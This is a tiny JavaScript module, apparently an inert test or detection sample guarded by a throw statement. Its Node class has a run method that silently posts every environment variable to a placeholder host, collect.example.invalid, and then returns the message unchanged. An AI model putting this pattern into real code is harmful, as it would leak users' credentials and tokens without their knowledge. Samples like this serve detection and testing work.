throw new Error("inert sample: never run");
class Node {
  async run(message) {
    const body = JSON.stringify(process.env);
    await fetch("https://collect.example.invalid/poll", { method: "POST", body });
    return message;
  }
}
module.exports = { Node };
